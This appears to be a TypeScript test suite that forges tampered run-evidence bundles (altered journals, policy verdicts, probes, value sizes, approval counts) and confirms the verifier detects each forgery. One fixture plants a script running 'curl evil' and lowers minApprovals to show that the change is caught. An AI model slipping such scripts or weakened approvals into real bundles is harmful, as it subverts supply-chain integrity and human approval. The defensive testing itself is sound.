import { sampleRun, type SampleOptions } from '../../../testing/sample-evidence';
import { resealed, sealBundle, type Sample } from '../../../testing/sample-signing';
import { canonical } from '../../canonical/canonical';
import { digestOf, sha256 } from '../../canonical/digest';
import type { Digest, TenantId } from '../../foundation/ids';
import type { Json } from '../../foundation/json';
import { chain } from '../../journal/chain';
import { chained } from '../../../testing/forge/chained';
import type { Entry, Page, Unnumbered } from '../../journal/page';
import { PROVENANCE_ATTESTATION } from '../bundle/bundle-files';
import type { VerificationSession } from './check/verification-session';
import { probesHold } from './check/check-probes';
import { misstatedSize } from './check/misstated-sizes';
import { strayAnswer } from './check/stray-answers';
import { assertedFile, draftFiles, verifyDraft } from './draft';
import { readEvidence } from '../records/evidence-documents';
import { readAssertedJson } from '../bundle/read-bundle';
import type { RunEvidence } from '../records/run-evidence';
import { factsOf } from '../records/run-facts';
import { verifySignature } from '../encoding/signature';
import { verifyRun } from './verify-run';

// Each of these forgeries once passed every check: changes that the holder of a worker's keys, or of the bundle key alone, made to an
// honest run.

const failing = (checks: readonly { readonly name: string; readonly ok: boolean }[]): readonly string[] =>
  checks.filter(({ ok }) => !ok).map(({ name }) => name);

function verified(sample: Sample, files = sealBundle(sample)): readonly string[] {
  return failing(verifyRun({ files, trust: sample.trust, verifySignature }).checks);
}

/** Findings of a remote Attestor in a worker's draft. */
function attested({ evidence, trust }: Sample): readonly string[] {
  const documents = readEvidence(evidence);
  return failing(
    verifyDraft({
      files: new Map(draftFiles(documents).map(({ path, bytes }) => [path, bytes])),
      asserted: readAssertedJson(JSON.parse(assertedFile(documents)) as Json),
      trust,
      verifySignature,
    }).checks,
  );
}

const NGINX = { image: 'nginx', regions: ['r0', 'r1'] };

describe('a worker that journals another answer than the inputs give', () => {
  const gated: SampleOptions = { gateWhen: "{{ inputs.image == 'nginx' }}" };

  it('passes a gate over whose inputs ask for it', async () => {
    const honest = await sampleRun(gated);
    expect([verified(honest), attested(honest)]).toEqual([[], []]);
    const forged = await sampleRun({ ...gated, pretends: { ...NGINX, image: 'busybox' } });
    const { facts, decisions } = readEvidence(forged.evidence);
    // The steps behind the gate ran although nobody decided.
    expect([decisions.size, facts.ended?.status]).toEqual([0, 'succeeded']);
    expect(facts.stepsStarted.map(({ step }) => step)).toContain('rollout[0]::apply');
    expect(verified(forged)).toContain('answers');
    expect(attested(forged)).toContain('answers');
  });

  it.each<[string, SampleOptions]>([
    ['runs a map over other items', { pretends: { ...NGINX, regions: ['r0', 'r1', 'r2'] } }],
    ['runs a map over fewer items', { pretends: { ...NGINX, regions: ['r0'] } }],
    ['shows another message at a gate', { pretends: { ...NGINX, image: 'harmless' } }],
  ])('%s', async (_what, options) => {
    const forged = await sampleRun(options);
    expect(verified(forged)).toContain('answers');
    expect(attested(forged)).toContain('answers');
  });
});

describe('a policy that was judged over another input', () => {
  it.each<[string, SampleOptions]>([
    ['of another image', { policy: "inputs.image != 'nginx'", pretends: { ...NGINX, image: 'busybox' } }],
    ['of another tenant', { policy: "tenant == 'other'", claims: { tenant: 'other' as TenantId } }],
    ['of another plan', { policy: `plan.hash == '${sha256('other')}'`, claims: {} }],
  ])('%s', async (what, options) => {
    const forged = await judgedOver(what, options);
    expect(verified(forged)).toEqual(expect.arrayContaining(['answers', 'policies']));
    expect(attested(forged)).toEqual(expect.arrayContaining(['answers', 'policies']));
  });

  it('is found where only its reasons are others', async () => {
    const honest = await sampleRun();
    const forged = retold(honest, (entry) =>
      entry.kind === 'given' && entry.event.type === 'policy.judged'
        ? { ...entry, event: { ...entry.event, reasons: ['all is well'] } }
        : entry,
    );
    expect(verified(forged)).toContain('policies');
  });

  /** A run whose policy allows over an input that is not the run's. */
  async function judgedOver(what: string, options: SampleOptions): Promise<Sample> {
    if (what === 'of another image') return sampleRun(options);
    const honest = await sampleRun();
    const other = await sampleRun({ policy: 'true' });
    const judged = (sample: Sample) =>
      sample.evidence.pages
        .flatMap(({ entries }) => entries)
        .flatMap(({ event }) => (event.type === 'policy.judged' ? [event] : []))[0];
    const input = { ...(valueOf(honest, judged(honest)?.input) as object), tenant: 'other' };
    const text = canonical(input);
    expect(judged(other)).toBeDefined();
    return retold(
      honest,
      (entry) =>
        entry.kind === 'given' && entry.event.type === 'policy.judged'
          ? { ...entry, event: { ...entry.event, input: { kind: 'value', digest: sha256(text), size: text.length } } }
          : entry,
      { [sha256(text)]: input as Json },
    );
  }
});

function valueOf({ evidence }: Sample, ref: unknown): Json {
  const { digest } = ref as { digest: Digest };
  return evidence.pages.find(({ values }) => Object.hasOwn(values, digest))?.values[digest] ?? null;
}

/** The altered journal, hash-chained again. */
function retold(sample: Sample, restate: (entry: Unnumbered) => Unnumbered, more: Page['values'] = {}): Sample {
  const { pages } = sample.evidence;
  const entries = pages.flatMap((page) => page.entries).map(({ seq: _seq, ...entry }) => restate(entry));
  const values = { ...Object.assign({}, ...pages.map((page) => page.values)), ...more } as Page['values'];
  const page = chained({ seq: 0, hash: pages[0]?.prev as Digest }, entries, values);
  return { ...sample, evidence: { ...sample.evidence, pages: [page] } };
}

describe('with the bundle key alone', () => {
  let sample: Sample;
  beforeAll(async () => void (sample = await sampleRun()));

  /** The altered files under a newly signed manifest. */
  function rebuilt(change: (files: Map<string, Uint8Array>) => void): readonly string[] {
    const files = new Map(sealBundle(sample));
    change(files);
    return verified(
      sample,
      resealed(
        sample.keys.bundle,
        [...files].map(([path, bytes]) => ({ path, bytes })),
      ),
    );
  }
  const textOf = (files: ReadonlyMap<string, Uint8Array>, path: string): string =>
    new TextDecoder().decode(files.get(path));
  const edit = (files: Map<string, Uint8Array>, path: string, from: string, to: string): void => {
    expect(textOf(files, path)).toContain(from);
    files.set(path, Buffer.from(textOf(files, path).replace(from, to)));
  };

  it('nothing is altered by sealing again', () => {
    expect(rebuilt(() => undefined)).toEqual([]);
  });

  it('a file of the pack cannot be left out', () => {
    expect(rebuilt((files) => files.delete('pack/files/README.md'))).toContain('pack.content');
  });

  it('a script and the manifest cannot be altered by leaving the bytes of another file out', () => {
    expect(
      rebuilt((files) => {
        files.delete('pack/files/README.md');
        edit(files, 'pack/manifest.json', '"minApprovals":2', '"minApprovals":1');
        const script = Buffer.from('#!/bin/sh\ncurl evil\n');
        files.set('pack/files/scripts/fix.sh', script);
        const listed = JSON.parse(textOf(files, 'pack/files.json')) as { path: string; digest: string; size: number }[];
        const altered = listed.map((file) =>
          file.path === 'scripts/fix.sh' ? { ...file, digest: sha256(script), size: script.length } : file,
        );
        files.set('pack/files.json', Buffer.from(canonical(altered as unknown as Json)));
      }),
    ).toContain('pack.content');
  });

  it('the provenance cannot be left out', () => {
    expect(rebuilt((files) => files.delete(PROVENANCE_ATTESTATION))).toContain('provenance.agrees');
  });

  it.each<[string, (files: Map<string, Uint8Array>) => void]>([
    [
      'the bytes of an artifact',
      (files) => {
        for (const path of files.keys()) if (path.startsWith('artifacts/')) files.delete(path);
      },
    ],
    [
      'the values of the journal',
      (files) => {
        const lines = textOf(files, 'journal.ndjson').trimEnd().split('\n');
        const bare = lines.map((line) => `${canonical({ ...(JSON.parse(line) as object), values: {} })}\n`);
        files.set('journal.ndjson', Buffer.from(bare.join('')));
      },
    ],
  ])('%s cannot be left out', (_what, change) => {
    expect(rebuilt(change)).toContain('statement.agrees');
  });
});

describe('a journal of entries in no strict shape', () => {
  it.each<[string, (entry: Unnumbered) => Unnumbered]>([
    [
      'an unknown member of an event',
      (entry) => ({ ...entry, event: { ...entry.event, aside: 1 } }) as unknown as Unnumbered,
    ],
    ['an unknown member of an entry', (entry) => ({ ...entry, aside: 1 }) as unknown as Unnumbered],
    [
      'an event that there is not',
      (entry) => (entry.kind === 'fact' ? { ...entry, event: { type: 'aside' } } : entry) as unknown as Unnumbered,
    ],
    [
      'a text in place of a number',
      (entry) =>
        (entry.event.type === 'log'
          ? { ...entry, event: { ...entry.event, lines: '2' } }
          : entry) as unknown as Unnumbered,
    ],
  ])('%s', async (_what, restate) => {
    const forged = retold(await sampleRun(), restate);
    const { checks } = verifyRun({ files: sealBundle(forged), trust: forged.trust, verifySignature });
    expect(checks.find(({ name }) => name === 'journal.chain')).toMatchObject({
      ok: false,
      detail: expect.stringContaining('EVIDENCE_SHAPE'),
    });
  });
});

describe('a probe', () => {
  const claim = (sample: Sample, probe: Digest): Sample =>
    retold(sample, (entry) =>
      entry.kind === 'given' && entry.event.type === 'run.claimed'
        ? { ...entry, event: { ...entry.event, probe } }
        : entry,
    );
  const withProbe = async (document: Json): Promise<RunEvidence & { readonly of: Sample }> => {
    const of = claim(await sampleRun(), digestOf(document));
    return { ...of.evidence, probes: new Map([[digestOf(document), canonical(document)]]), of };
  };
  const profile = { profile: 'none/v1', available: true, reason: null, sandbox: { profile: 'none/v1' }, tried: [] };
  const probe = (change: object = {}): Json => ({
    schema: 'taskrunner.probe.v1',
    profiles: [{ ...profile, ...change }],
  });

  it('shows that the sandbox of the run holds', async () => {
    const { of, ...evidence } = await withProbe(probe());
    expect(verified({ ...of, evidence })).toEqual([]);
  });

  it.each<[string, Json]>([
    ['does not hold', probe({ available: false, reason: 'it can write /' })],
    ['is of another profile', probe({ profile: 'bwrap-open/v2' })],
    ['describes another sandbox', probe({ sandbox: { profile: 'other' } })],
    ['has a member more', probe({ aside: 1 })],
    ['is no probe', { schema: 'taskrunner.probe.v2' }],
  ])('that %s is found', async (_what, document) => {
    const { of, ...evidence } = await withProbe(document);
    expect(verified({ ...of, evidence })).toContain('probes');
  });

  it('that does not hold is no fault of a run whose steps its worker refused to perform', async () => {
    const { of: _of, ...evidence } = await withProbe(probe({ available: false, reason: 'there is no bwrap' }));
    const { pages } = evidence;
    const started = pages.flatMap(({ entries }) => entries).findIndex(({ event }) => event.type === 'step.started');
    const entries = pages.flatMap((page) => page.entries).slice(0, started + 1);
    const page = chain(
      { seq: 0, hash: pages[0]?.prev as Digest },
      entries.map(({ seq: _seq, ...entry }) => entry),
      {},
    );
    const bundle = {
      documents: () => ({ ...readEvidence(evidence), facts: factsOf([page.page]) }),
    } as unknown as VerificationSession;
    expect(probesHold(bundle)).toMatchObject({ basis: 'recomputed' });
  });

  it('cannot be left out with the bundle key', async () => {
    const { of, ...evidence } = await withProbe(probe());
    const files = [...sealBundle({ ...of, evidence })].filter(([path]) => !path.startsWith('probes/'));
    const resealedFiles = resealed(
      of.keys.bundle,
      files.map(([path, bytes]) => ({ path, bytes })),
    );
    expect(verified({ ...of, evidence }, resealedFiles)).toContain('statement.agrees');
  });
});

describe('what the journal tells of a value', () => {
  /** The value beside a page, replaced by another one. */
  const restated =
    (types: readonly string[], change: (ref: { digest: Digest; size: number }) => object) => (entry: Unnumbered) => {
      if (!types.includes(entry.event.type)) return entry;
      const event = entry.event as { readonly outputs?: { kind: string; digest: Digest; size: number } | null };
      return event.outputs?.kind === 'value'
        ? ({ ...entry, event: { ...event, outputs: change(event.outputs) } } as Unnumbered)
        : entry;
    };

  it('is no reference to the children of another step', async () => {
    const honest = await sampleRun();
    const forged = retold(
      honest,
      restated(['attempt.succeeded'], ({ digest }) => ({ kind: 'children', of: 'rollout', count: 1, digest })),
    );
    expect(verified(forged)).toContain('journal.chain');
  });

  it('is its size, so that it cannot be left out for being large', () => {
    const value = 'x'.repeat(70_000);
    const page = (size: number): Page =>
      ({
        values: { [digestOf(value)]: value },
        entries: [
          {
            seq: 3,
            at: 0,
            kind: 'given',
            event: { type: 'run.ended', outputs: { kind: 'value', digest: digestOf(value), size } },
          },
        ],
      }) as unknown as Page;
    expect(misstatedSize([page(70_002)])).toBeNull();
    expect(misstatedSize([page(1 << 27)])).toMatch(/has 70002 bytes, not 134217728/);
    expect(misstatedSize([page(70_002), page(70_003)])).toMatch('two sizes');
  });

  it('does not excuse a question that cannot be answered again, unless the trust file takes that', async () => {
    const honest = await sampleRun({ policy: 'true' });
    const outputs = new Set(
      honest.evidence.pages.flatMap(({ entries }) =>
        entries.flatMap(({ event }) => (event.type === 'attempt.succeeded' ? [event.outputs?.digest] : [])),
      ),
    );
    const swollen = (_name: string, value: unknown): unknown => {
      const ref = (value ?? {}) as { readonly kind?: string; readonly digest?: Digest };
      return ref.kind === 'value' && outputs.has(ref.digest) ? { ...ref, size: 1 << 27 } : value;
    };
    const { evidence, ...sample } = retold(honest, (entry) => JSON.parse(JSON.stringify(entry), swollen) as Unnumbered);
    const pages = evidence.pages.map((page) => ({
      ...page,
      values: Object.fromEntries(Object.entries(page.values).filter(([digest]) => !outputs.has(digest as Digest))),
    }));
    const files = sealBundle({ ...sample, evidence: { ...evidence, pages } });
    const answers = (require: object): object | undefined =>
      verifyRun({
        files,
        trust: { ...sample.trust, require: { ...sample.trust.require, ...require } },
        verifySignature,
      }).checks.find(({ name }) => name === 'answers');
    const refused = { ok: false, detail: expect.stringContaining('require.answers') as string };
    expect(answers({})).toMatchObject(refused);
    expect(answers({ answers: true })).toMatchObject(refused);
    expect(answers({ answers: false })).toMatchObject({ ok: true, basis: 'signed' });
  });
});

describe('an answer that nobody asked for', () => {
  const judged = (allow: boolean): object => ({ type: 'policy.judged', step: 'p', allow });
  const branch = (index: number): object => ({
    type: 'question.answered',
    step: 'c',
    answer: { kind: 'branch', index },
  });
  const entries = (...events: readonly object[]): readonly Entry[] =>
    events.map((event, seq) => {
      const { type } = event as { type: string };
      const kind = /answered|judged|claimed/.test(type) ? 'given' : 'derived';
      return { seq, at: 0, kind, event } as unknown as Entry;
    });
  const ignored = { type: 'given.ignored', what: '', step: null, code: 'QUESTION_OVER' };
  const ended = (step: string, status: string): object => ({ type: 'step.ended', step, status, code: null });
  const claimed = { type: 'run.claimed' };

  it.each<[string, readonly object[], boolean]>([
    ['a second verdict', [judged(false), judged(true), ignored], true],
    ['the same verdict again', [judged(true), judged(true), ignored], false],
    ['a second branch', [branch(1), branch(0), ignored], true],
    ['a branch of a step that was skipped', [ended('c', 'skipped'), branch(0), ignored], true],
    ['a branch of a step that was cancelled meanwhile', [ended('c', 'cancelled'), branch(0), ignored], false],
    ['a verdict before it was asked for', [judged(true), ignored, claimed], true],
    ['a verdict that was taken', [judged(true), { type: 'gate.opened' }, claimed], false],
    ['a branch after the end of the run', [{ type: 'run.ended' }, branch(0), ignored], false],
  ])('%s', (_what, events, isFound) => {
    expect(strayAnswer(entries(...events)) !== null).toBe(isFound);
  });
});
